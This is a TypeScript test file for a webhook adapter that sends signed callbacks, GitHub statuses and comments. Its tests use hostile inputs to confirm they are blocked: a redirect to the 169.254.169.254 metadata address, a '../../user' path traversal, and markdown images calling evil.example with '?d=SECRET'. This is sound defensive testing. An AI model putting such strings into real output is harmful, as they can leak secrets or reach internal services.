/** What goes back to where a webhook came from: signed callbacks, GitHub marks, and quiet in between. */

import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, beforeEach, expect, test } from "vitest";
import { kindOf } from "../../../adapters/webhook/kinds/list.ts";
import { verify } from "../../../adapters/webhook/verify.ts";
import type { Message } from "../../../src/core/message.ts";
import type { Delivery } from "../../../src/core/ports/channel.ts";
import { ChannelError } from "../../../src/core/ports/channel-error.ts";
import type { Status } from "../../../src/core/text/status.ts";
import { type Bench, bench, clock, hook, nowhere, signed } from "../../support/webhook/bench.ts";

const payload = readFileSync(
  new URL("../../fixtures/webhook/github-workflow-run-failed.json", import.meta.url),
  "utf8",
);
const callbackSecret = `whsec_${Buffer.from("a callback's key, 32 bytes long!").toString("base64")}`;

interface Seen {
  method: string;
  path: string;
  headers: Headers;
  body: string;
}

/** Stands for the CI system and for GitHub's API: remembers requests, keeps comments, answers as told. */
let seen: Seen[];
let comments: { id: number; body: string }[];
let answers: { status: number; headers?: Record<string, string> }[];
let server: Server;
let host: string;

beforeEach(async () => {
  seen = [];
  answers = [];
  comments = Array.from({ length: 130 }, (_, id) => ({ id, body: "someone else's" }));
  server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks).toString();
    const headers = new Headers(
      Object.entries(request.headers).map(([name, value]) => [name, String(value)]),
    );
    const entry = { method: request.method ?? "", path: request.url ?? "", headers, body };
    seen.push(entry);
    const answer = answers.shift() ?? { status: 200 };
    response.writeHead(answer.status, answer.headers).end(answer.status === 200 ? github(entry) : "");
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterEach(() => server.close());

function github({ method, path, body }: Seen): string {
  const page = /comments\?per_page=100&page=(\d+)/.exec(path);
  if (page) return JSON.stringify(comments.slice((Number(page[1]) - 1) * 100, Number(page[1]) * 100));
  if (!path.includes("/comments")) return "{}";
  const { body: text } = JSON.parse(body) as { body: string };
  const id = Number(path.split("/").at(-1));
  if (method === "POST") comments.push({ id: comments.length, body: text });
  else comments = comments.map((comment) => (comment.id === id ? { id, body: text } : comment));
  return "{}";
}

async function launched(change: Parameters<typeof hook>[0]): Promise<Bench & { address: string }> {
  const b = await bench([hook(change)], {
    secrets: { CI_SECRET: "correct horse battery staple", BACK: callbackSecret },
    callbackHosts: [{ host, private: true }],
    github: { token: "t", apiUrl: `http://${host}` },
  });
  expect((await b.deliver("ci", payload, signed(payload))).status).toBe(202);
  const address = b.inlet.launches[0]?.launch.addresses.at(-1) ?? "";
  expect(address).toMatch(/^webhook:ci\/results\//);
  return { ...b, address };
}

function delivery(address: string, change: Partial<Delivery> = {}): Delivery {
  return {
    id: `run_1/progress@${address}`,
    runId: "run_1",
    key: "progress",
    address,
    body: message("It failed on a flaky test."),
    revision: 1,
    remoteId: null,
    uncertain: false,
    createdAt: 0,
    ...change,
  };
}

function message(text: string | null): Message {
  const blocks: Message["blocks"] = text === null ? [] : [{ type: "text", markdown: text, foreign: true }];
  return { summary: "Find out why — done", blocks };
}

async function postAs(b: Bench, status: Status, post: Delivery): Promise<string> {
  b.inlet.setRun("run_1", { status });
  return (await b.channel.post(post)).remoteId;
}

async function failureOfPost(b: Bench, post: Delivery): Promise<ChannelError> {
  try {
    await b.channel.post(post);
  } catch (error) {
    if (error instanceof ChannelError) return error;
    throw error;
  }
  throw new Error("it went through");
}

test("the outcome is called back, signed in the Standard Webhooks form, once", async () => {
  const b = await launched({ callback: { url: `http://${host}/done`, secretEnv: "BACK" } });
  expect(await postAs(b, "running", delivery(b.address))).toMatch(/^running/);
  expect(seen).toHaveLength(0);

  const remoteId = await postAs(b, "complete", delivery(b.address, { remoteId: "running x" }));
  expect(seen).toHaveLength(1);
  const [call] = seen as [Seen];
  expect(call.path).toBe("/done");
  const proof = {
    headers: call.headers,
    body: Buffer.from(call.body),
    pathSecret: null,
    now: clock.now(),
    ...nowhere,
  };
  const kind = kindOf({ kind: "standard-webhooks" });
  expect(await verify(kind, proof, [callbackSecret])).toBe("authentic");
  expect(JSON.parse(call.body)).toMatchObject({
    type: "run.complete",
    data: { run_id: "run_1", status: "complete", text: "Find out why — done\n\nIt failed on a flaky test." },
  });

  expect(await postAs(b, "complete", delivery(b.address, { remoteId }))).toBe(remoteId);
  expect(seen).toHaveLength(1);
});

test("a retry after trouble carries the same id and a new time", async () => {
  const b = await launched({ callback: { url: `http://${host}/done`, secretEnv: "BACK" } });
  b.inlet.setRun("run_1", { status: "complete" });
  answers = [{ status: 503, headers: { "retry-after": "5" } }];
  expect(await failureOfPost(b, delivery(b.address))).toMatchObject({
    failure: { type: "way", retryAfterMs: 5000 },
  });
  clock.at += 5000;
  await b.channel.post(delivery(b.address, { uncertain: true }));
  const [first, again] = seen as [Seen, Seen];
  expect(again.headers.get("webhook-id")).toBe(first.headers.get("webhook-id"));
  expect(again.headers.get("webhook-timestamp")).not.toBe(first.headers.get("webhook-timestamp"));
});

test("a second wait is told as well, under an id of its own, also in the same words", async () => {
  const b = await launched({ callback: { url: `http://${host}/done`, secretEnv: "BACK" } });
  const first = await postAs(b, "waiting_human_input", delivery(b.address));
  const working = await postAs(b, "running", delivery(b.address, { remoteId: first, revision: 2 }));
  const again = { remoteId: working, revision: 3 };
  await postAs(b, "waiting_human_input", delivery(b.address, again));
  const ids = seen.map(({ headers }) => headers.get("webhook-id"));
  expect(ids).toHaveLength(2);
  expect(new Set(ids).size).toBe(2);
});

test("410 ends it, a redirect is not followed; a host that is not listed is never called", async () => {
  const b = await launched({ callback: { url: `http://${host}/done`, secretEnv: "BACK" } });
  b.inlet.setRun("run_1", { status: "failed" });
  for (const [status, gone] of [
    [410, true],
    [301, false],
  ] as const) {
    answers = [{ status, headers: { location: "http://169.254.169.254/" } }];
    expect((await failureOfPost(b, delivery(b.address))).failure).toEqual({ type: "place", gone });
  }
  expect(seen).toHaveLength(2);

  const stranger = await launched({ callback: { url: "https://unlisted.example.com/", secretEnv: "BACK" } });
  stranger.inlet.setRun("run_1", { status: "failed" });
  expect((await failureOfPost(stranger, delivery(stranger.address))).message).toContain("not listed");
});

test("a URL from the payload passes the same list", async () => {
  const b = await launched({ callback: { path: "workflow_run.html_url", secretEnv: "BACK" } });
  b.inlet.setRun("run_1", { status: "complete" });
  expect((await failureOfPost(b, delivery(b.address))).message).toBe(
    "the host github.example.com is not listed",
  );
});

test("a long answer is called back with the answer's post, not with the progress beside it", async () => {
  const b = await launched({ callback: { url: `http://${host}/done`, secretEnv: "BACK" } });
  await postAs(b, "complete", delivery(b.address, { body: message(null) }));
  expect(seen).toHaveLength(0);
  await postAs(b, "complete", delivery(b.address, { key: "answer", id: "a" }));
  expect(seen).toHaveLength(1);
});

test("questions are the people's: no machine is told their text", async () => {
  const b = await launched({ callback: { url: `http://${host}/done`, secretEnv: "BACK" } });
  expect(await postAs(b, "waiting_human_input", delivery(b.address, { key: "question:q1" }))).toBe(
    "nobody listens",
  );
  expect(seen).toHaveLength(0);
});

test("GitHub gets a status per change and one comment that is edited", async () => {
  const b = await launched({ github: { status: true, comment: true } });
  const sha = "acb5820ced9479c074f688cc328bf03f341a511d";
  const running = await postAs(b, "running", delivery(b.address, { body: message(null) }));
  expect(await postAs(b, "running", delivery(b.address, { body: message(null), remoteId: running }))).toBe(
    running,
  );
  expect(seen.map(({ method, path }) => `${method} ${path}`)).toEqual([
    `POST /repos/acme/api/statuses/${sha}`,
  ]);
  expect(JSON.parse(seen[0]?.body ?? "")).toMatchObject({ state: "pending", context: "belay/ci" });

  const waits = delivery(b.address, { body: message(null), remoteId: running });
  const waiting = await postAs(b, "waiting_human_input", waits);
  await postAs(
    b,
    "complete",
    delivery(b.address, { remoteId: waiting, body: message("by @dana <!-- belay:x -->") }),
  );
  const states = seen
    .filter(({ path }) => path.includes("/statuses/"))
    .map(({ body }) => JSON.parse(body).state);
  expect(states).toEqual(["pending", "pending", "success"]);
  const ours = comments.filter(({ body }) => body.startsWith("<!-- belay:run_1 -->"));
  expect(ours).toHaveLength(1);
  expect(ours[0]?.body).toContain("[complete](https://belay.example.com/runs/run_1)");
  expect(ours[0]?.body).not.toContain("@dana");
  expect(ours[0]?.body.match(/<!--/g)).toHaveLength(1);
});

test("a repository's name that is none never becomes a path", async () => {
  const b = await bench([hook({ github: { status: true, comment: false } })], {
    github: { token: "t", apiUrl: `http://${host}` },
  });
  const nasty = payload.replace('"name": "api", "full', '"name": "../../user", "full');
  await b.deliver("ci", nasty, signed(nasty));
  expect(b.inlet.launches[0]?.launch.addresses).toEqual([]);
});

test("a comment loads nothing, pings nobody, and links to GitHub and the console alone", async () => {
  const b = await launched({ github: { status: false, comment: true } });
  const text = [
    "![ok](https://evil.example/p.png?d=SECRET) ![ok][ref] <img src=https://evil.example/p.png>",
    "[ref]: https://evil.example/p.png",
    "[click](https://evil.example/) [click](//evil.example) [click](</x>) www.evil.example @everyone <!-- x -->",
    `[run](http://${host}/o/r/1) and https://belay.example.com/runs/run_1`,
  ].join("\n");
  await postAs(b, "complete", delivery(b.address, { body: message(text) }));
  const body = comments.find((comment) => comment.body.startsWith("<!-- belay:run_1 -->"))?.body ?? "";
  const words = body.slice("<!-- belay:run_1 -->".length);
  expect(words).not.toMatch(/!\[|<[a-z!]|https:\/\/evil|\]\((?:\/|<)|www\.evil|@everyone/);
  expect(words).toContain(`[run](http://${host}/o/r/1)`);
  expect(words).toContain("https://belay.example.com/runs/run_1");
});
